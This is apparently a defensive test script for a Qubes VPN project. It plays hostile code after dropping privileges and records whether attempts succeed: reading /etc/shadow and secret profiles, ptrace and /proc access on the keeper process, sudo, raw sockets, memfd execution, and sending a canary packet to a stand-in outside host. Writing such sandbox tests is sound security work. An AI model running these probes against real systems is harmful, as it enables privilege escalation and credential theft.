"""Hostile code in the engine's place: it has what the engine has, no more.

    python -m tests.hostile.intruder KEEPER_FD UID SECRET_FILE KEEPER_PID [unit]

Gives up privileges as the engine does (UID 0: not at all, for the control),
tries everything, and prints as JSON what each try got: "done", or why not.
"""

import contextlib
import ctypes
import fcntl
import json
import os
import signal
import socket
import struct
import subprocess
import sys
from ipaddress import ip_address
from pathlib import Path

from qubes_vpn.keeper import messages
from qubes_vpn.keeper.client import KeeperClient, KeeperGoneError
from qubes_vpn.policy.phase import Endpoint, Transport
from qubes_vpn.system.privileges import drop_privileges

ELSEWHERE = ("203.0.113.66", 1194)
PTRACE_ATTACH, PTRACE_DETACH = 16, 17
TUNSETIFF = 0x400454CA
LIBC = ctypes.CDLL(None, use_errno=True)


def send_elsewhere():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(b"CANARY", ELSEWHERE)


def raw(family, kind, proto):
    socket.socket(family, kind, proto).close()


def set_mark():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_MARK, 0x71767000)
        sock.sendto(b"CANARY", ELSEWHERE)


def make_tun():
    descriptor = os.open("/dev/net/tun", os.O_RDWR)
    try:
        fcntl.ioctl(
            descriptor, TUNSETIFF, struct.pack("16sH22x", b"evil0", 0x1001)
        )
    finally:
        os.close(descriptor)


def command(*words, keep=()):
    try:
        done = subprocess.run(
            words,
            capture_output=True,
            timeout=20,
            stdin=subprocess.DEVNULL,
            pass_fds=keep,
        )
    except FileNotFoundError:
        raise PermissionError(2, "not installed") from None
    if done.returncode:
        raise PermissionError(1, "refused")


def ptrace(pid):
    if LIBC.ptrace(PTRACE_ATTACH, pid, 0, 0):
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    os.waitpid(pid, 0x40000000)
    LIBC.ptrace(PTRACE_DETACH, pid, 0, 0)


def keeper(client, message):
    client.request(message, timeout=3)


def tries(secret, pid):
    """Give (name, function) of everything that needs no keeper."""
    return (
        ("udp-elsewhere", send_elsewhere),
        ("mark", set_mark),
        ("packet-socket", lambda: raw(17, socket.SOCK_RAW, 0x0300)),
        ("raw-socket", lambda: raw(2, socket.SOCK_RAW, 1)),
        ("tun", make_tun),
        (
            "route",
            lambda: command("ip", "route", "add", "1.2.3.4", "dev", "lo"),
        ),
        (
            "address",
            lambda: command("ip", "addr", "add", "9.9.9.9", "dev", "lo"),
        ),
        ("nft", lambda: command("nft", "add", "table", "inet", "evil")),
        ("forwarding", lambda: sysctl("net/ipv4/conf/all/accept_redirects")),
        ("sudo", lambda: command("sudo", "-n", "true")),
        ("su", lambda: command("su", "-c", "true")),
        ("pkexec", lambda: command("pkexec", "true")),
        (
            "qrexec",
            lambda: command("qrexec-client-vm", "dom0", "admin.vm.List"),
        ),
        ("qubesdb", lambda: command("qubesdb-write", "/x", "y")),
        ("profile", lambda: Path(secret).read_bytes()),
        ("profiles", lambda: list(Path(secret).parent.iterdir())),
        ("shadow", lambda: Path("/etc/shadow").read_bytes()),
        ("ptrace-keeper", lambda: ptrace(pid)),
        (
            "memory-of-keeper",
            lambda: Path(f"/proc/{pid}/mem").open("rb").close(),
        ),
        (
            "environ-of-keeper",
            lambda: Path(f"/proc/{pid}/environ").read_bytes(),
        ),
        ("files-of-keeper", lambda: os.listdir(f"/proc/{pid}/fd")),
        ("signal-keeper", lambda: os.kill(pid, 0)),
        ("root", lambda: os.setresuid(0, 0, 0)),
        ("group", lambda: os.setgroups([0])),
        ("hypervisor", lambda: Path("/dev/xen/privcmd").open("rb").close()),
        ("disk", lambda: Path("/dev/mem").open("rb").close()),
    )


def run_memory():
    """Run a program that is in no file system."""
    descriptor = os.memfd_create("x")
    os.write(descriptor, Path("/bin/true").read_bytes())
    command(f"/proc/self/fd/{descriptor}", keep=[descriptor])


def stop_keeper():
    """Ask systemd over D-Bus, as any program of the qube may."""
    command(
        *("busctl", "call", "org.freedesktop.systemd1"),
        *("/org/freedesktop/systemd1", "org.freedesktop.systemd1.Manager"),
        *("ReloadUnit", "ss", "dbus.service", "replace"),
    )


def more_tries():
    """Give what nothing but systemd's sandbox is in the way of."""
    return (
        ("shell", lambda: command("/bin/sh", "-c", "true")),
        ("memfd", run_memory),
        ("bus", stop_keeper),
        ("namespace", lambda: command("unshare", "--user", "true")),
        ("netlink", lambda: raw(16, socket.SOCK_RAW, 0)),
        ("processes", lambda: Path("/proc/1/status").read_text()),
    )


def sysctl(name):
    path = Path("/proc/sys") / name
    path.write_text(path.read_text())


def requests():
    """Give (name, message): what the agent may ask of a keeper, and excess."""
    other = Endpoint(ip_address(ELSEWHERE[0]), Transport.UDP, ELSEWHERE[1])
    return (
        ("another-endpoint", messages.OpenLink(1)),
        ("no-endpoint", messages.OpenLink(-1)),
        ("add-endpoints", messages.SetEndpoints((other,))),
        ("adopt", messages.AdoptEngine()),
        ("resolver", messages.OpenResolver(ip_address(ELSEWHERE[0]))),
    )


def bend_the_link(client):
    """Turn the one socket that is let out at somebody else."""
    _, (link,) = client.request(messages.OpenLink(0))
    with socket.socket(fileno=link) as sock:
        with contextlib.suppress(OSError):
            sock.sendto(b"CANARY", ELSEWHERE)
        sock.connect(ELSEWHERE)
        sock.send(b"CANARY")


def attempt(work):
    try:
        work()
    except (OSError, KeeperGoneError) as error:
        return f"{type(error).__name__}: {error}"
    except Exception as error:  # noqa: BLE001
        return f"{type(error).__name__}: {getattr(error, 'reason', error)}"
    return "done"


def apart(work):
    """Attempt in a child: systemd's filter kills who makes a wrong call."""
    reading, writing = os.pipe()
    child = os.fork()
    if not child:
        os.write(writing, attempt(work).encode())
        os._exit(0)
    os.close(writing)
    with os.fdopen(reading) as pipe:
        said = pipe.read()
    _, status = os.waitpid(child, 0)
    return said or signal.Signals(os.WTERMSIG(status)).name


def main():
    descriptor, uid, secret, pid = sys.argv[1:5]
    client = None
    if int(descriptor) >= 0:
        client = KeeperClient(socket.socket(fileno=int(descriptor)))
    if int(uid):
        drop_privileges(int(uid), int(uid))
    if len(sys.argv) > 5:
        todo = (*tries(secret, int(pid)), *more_tries())
        got = {name: apart(work) for name, work in todo}
    else:
        got = {n: attempt(work) for n, work in tries(secret, int(pid))}
    if client is not None:
        got["link-elsewhere"] = attempt(lambda: bend_the_link(client))
        for name, message in requests():
            got[name] = attempt(lambda asked=message: keeper(client, asked))
    sys.stdout.write(json.dumps(got))


if __name__ == "__main__":
    main()
